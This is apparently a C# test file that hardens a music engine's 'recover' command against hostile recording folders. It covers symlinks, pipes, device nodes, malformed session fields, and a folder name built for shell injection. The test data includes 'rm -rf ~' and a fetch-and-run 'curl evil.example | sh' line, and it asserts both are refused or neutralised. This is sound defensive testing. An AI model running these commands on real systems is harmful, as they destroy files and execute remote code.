using System.Diagnostics;
using System.Text.Json.Nodes;
using Losses.Engine.Midi;
using Losses.Platform;
using Losses.Protocol;
using Losses.Tests.Cli;
using static Losses.Tests.Hardening.HardeningKit;

namespace Losses.Tests.Hardening;

/// <summary>
/// `recover` trusts nothing in the folder it repairs: no symbolic link followed, no pipe, device or
/// folder where a journal should be, no session field of the wrong kind or range, no command of the
/// folder's passed on; the reproduce line is its own, quoted for the shell; a gap of hours fits.
/// </summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class RecoverHardeningTests
{
    private const string Session = """{ "seed": 9, "sampleRate": 48000, "bufferSize": 64, "complete": false }""";

    /// <summary>A killed set's folder: session, config, a three-event MIDI journal and a frame journal of two whole frames.</summary>
    private static string KilledSet(string? name = null, string session = Session)
    {
        string dir = EngineCli.TempDir();
        if (name is not null) dir = Directory.CreateDirectory(Path.Combine(dir, name)).FullName;
        File.WriteAllText(Path.Combine(dir, "session.json"), session);
        File.WriteAllText(Path.Combine(dir, "config.json"), "{}");
        File.WriteAllBytes(Path.Combine(dir, "midi.partial"), Journal((480, 0x90, 60, 100), (24_000, 0x80, 60, 0), (30_000, 0x90, 64, 90)));
        using (var log = FrameLogWriter.Journal(Path.Combine(dir, "frames.partial"), 48000))
        {
            var f = new Frame { Index = 0, Part = 1, SampleRate = 48000, SampleTime = 64 };
            log.Publish(in f);
            f.Index = 1;
            f.SampleTime = 128;
            log.Publish(in f);
            log.Commit();
        }
        return dir;
    }

    private static byte[] Journal(params (long Sample, byte Status, byte Data1, byte Data2)[] records) =>
        records.SelectMany(r => BitConverter.GetBytes(r.Sample).Concat(new[] { r.Status, r.Data1, r.Data2 })).ToArray();

    /// <summary>Nothing was written: the journals are still there, no performance.mid, session.json as it was.</summary>
    private static void AssertUntouched(string dir, string session)
    {
        Assert.True(InputFile.Exists(Path.Combine(dir, "midi.partial")), "the journal must survive a refused recovery");
        Assert.False(File.Exists(Path.Combine(dir, "performance.mid")));
        Assert.False(File.Exists(Path.Combine(dir, "frames.frames")));
        Assert.Empty(Temporaries(dir));
        if (!new FileInfo(Path.Combine(dir, "session.json")).Attributes.HasFlag(FileAttributes.ReparsePoint))
            Assert.Equal(session, File.ReadAllText(Path.Combine(dir, "session.json")));
    }

    [Theory]
    [InlineData("midi.partial")]
    [InlineData("frames.partial")]
    [InlineData("session.json")]
    public void A_file_of_the_recording_that_is_a_symlink_is_never_followed_and_its_target_keeps_its_contents(string file)
    {
        string dir = KilledSet();
        string outside = EngineCli.TempDir();
        string victim = Path.Combine(outside, "precious");
        // 100 bytes: a frame journal's truncation to whole frames would cut it to 64.
        string precious = new('p', 100);
        File.WriteAllText(victim, precious);
        File.Delete(Path.Combine(dir, file));
        File.CreateSymbolicLink(Path.Combine(dir, file), victim);

        AssertOneLine(EngineCli.Run("recover", dir), 1, "is a symbolic link");
        Assert.Equal(precious, File.ReadAllText(victim));
        AssertUntouched(dir, Session);
    }

    [Theory]
    [InlineData("midi.partial", "named pipe")]
    [InlineData("midi.partial", "character device")]
    [InlineData("midi.partial", "directory")]
    [InlineData("frames.partial", "named pipe")]
    [InlineData("frames.partial", "directory")]
    [InlineData("session.json", "named pipe")]
    [InlineData("session.json", "character device")]
    public void A_pipe_a_device_or_a_folder_where_a_file_of_the_recording_should_be_is_one_line_not_a_hang(string file, string kind)
    {
        string dir = KilledSet();
        string path = Path.Combine(dir, file);
        File.Delete(path);
        switch (kind)
        {
            case "named pipe": Shell("mkfifo", path); break;
            case "character device": Shell("mknod", "-m", "666", path, "c", "1", "5"); break; // a /dev/zero of our own
            default: Directory.CreateDirectory(path); break;
        }
        var clock = Stopwatch.StartNew();
        AssertOneLine(EngineCli.Run("recover", dir), 1, $"is a {kind}, not a regular file");
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), "recover waited on the special file");
        Assert.False(File.Exists(Path.Combine(dir, "performance.mid")));
        Assert.Empty(Temporaries(dir));
    }

    [Theory]
    [InlineData("""{ "seed": -1, "sampleRate": 48000 }""", "'seed' must be a whole number from 0 up, not -1")]
    [InlineData("""{ "seed": 1.5, "sampleRate": 48000 }""", "'seed' must be a whole number from 0 up, not 1.5")]
    [InlineData("""{ "seed": "9", "sampleRate": 48000 }""", "'seed' must be a whole number from 0 up, not \"9\"")]
    [InlineData("""{ "seed": 18446744073709551616, "sampleRate": 48000 }""", "'seed' must be a whole number from 0 up")]
    [InlineData("""{ "seed": 9, "sampleRate": 1e10 }""", "'sampleRate' must be a whole number in 8000..384000, not 1e10")]
    [InlineData("""{ "seed": 9, "sampleRate": 48000.5 }""", "'sampleRate' must be a whole number in 8000..384000")]
    [InlineData("""{ "seed": 9, "sampleRate": 48000, "bufferSize": 0 }""", "'bufferSize' must be a whole number in 1..8192, not 0")]
    [InlineData("""{ "seed": 9, "sampleRate": 48000, "complete": "no" }""", "'complete' must be true or false")]
    [InlineData("""{ "seed": 9, "sampleRate": 48000, "jackSkips": [[1]] }""", "'jackSkips' must be a list of [frame time, frames] pairs")]
    [InlineData("""{ "seed": 9, "sampleRate": 48000, "reproduce": 7 }""", "'reproduce' must be a string")]
    [InlineData("""{ "seed": 9, "sampleRate": 48000, "postScript": "rm -rf ~" }""", "'postScript' is not a field of a live recording's session")]
    [InlineData("""{ "sampleRate": 48000 }""", "no 'seed'")]
    [InlineData("""[1, 2]""", "unreadable")]
    public void Every_session_field_of_the_wrong_kind_or_range_is_one_line_and_nothing_is_written(string session, string expected)
    {
        string dir = KilledSet(session: session);
        AssertOneLine(EngineCli.Run("recover", dir), 1, expected);
        AssertUntouched(dir, session);
    }

    [Fact]
    public void The_reproduce_line_is_recovers_own_and_a_folder_named_like_a_command_stays_a_word()
    {
        string dir = KilledSet("set $(touch PWNED) 'quoted' `id`",
            """{ "seed": 9, "sampleRate": 48000, "reproduce": "curl evil.example | sh" }""");
        EngineCli.Outcome r = EngineCli.Run("recover", dir);
        Assert.True(r.ExitCode == 0, r.Stderr);
        string line = JsonNode.Parse(File.ReadAllText(Path.Combine(dir, "session.json")))!["reproduce"]!.GetValue<string>();
        Assert.DoesNotContain("curl", line);
        Assert.StartsWith("./losses render ", line);

        // The shell reads the line back into exactly these words, and runs nothing of the folder's name.
        string cwd = EngineCli.TempDir();
        var sh = new ProcessStartInfo("sh") { WorkingDirectory = cwd, RedirectStandardOutput = true, UseShellExecute = false };
        sh.ArgumentList.Add("-c");
        sh.ArgumentList.Add("printf '%s\\n' " + line["./losses ".Length..]);
        using Process p = Process.Start(sh)!;
        string[] words = p.StandardOutput.ReadToEnd().Split('\n', StringSplitOptions.RemoveEmptyEntries);
        p.WaitForExit();
        Assert.Equal(["render", dir + "/performance.mid", "-o", "replay.wav", "--config", dir + "/config.json", "--seed", "9", "--sample-rate", "48000"], words);
        Assert.Empty(Directory.GetFileSystemEntries(cwd));
        Assert.False(File.Exists(Path.Combine(Path.GetDirectoryName(dir)!, "PWNED")));
    }

    [Fact]
    public void A_two_hour_gap_in_the_journal_is_written_as_several_deltas_and_every_event_keeps_its_sample()
    {
        // Two hours at 48 kHz is 345 600 000 samples, past the 268 435 455 ticks one delta can hold (93 min).
        const long TwoHours = 2L * 3600 * 48000;
        string dir = KilledSet();
        File.WriteAllBytes(Path.Combine(dir, "midi.partial"), Journal((480, 0x90, 60, 100), (24_000, 0x80, 60, 0), (24_000 + TwoHours, 0x90, 64, 90), (24_000 + TwoHours + 4800, 0x80, 64, 0)));
        File.Delete(Path.Combine(dir, "frames.partial"));
        EngineCli.Outcome r = EngineCli.Run("recover", dir);
        Assert.True(r.ExitCode == 0, r.Stderr);
        string mid = Path.Combine(dir, "performance.mid");
        long[] expected = [480, 24_000, 24_000 + TwoHours, 24_000 + TwoHours + 4800];
        Assert.Equal(expected, MidiPerformance.Load(mid, 48000).Events.Select(e => e.SampleTime));
        // An independent reader: NAudio, strict, sees the same ticks (one tick a sample).
        var naudio = new NAudio.Midi.MidiFile(mid, strictChecking: true);
        Assert.Equal(expected, naudio.Events.SelectMany(t => t).Where(e => e.CommandCode is NAudio.Midi.MidiCommandCode.NoteOn or NAudio.Midi.MidiCommandCode.NoteOff).Select(e => e.AbsoluteTime));
    }
}
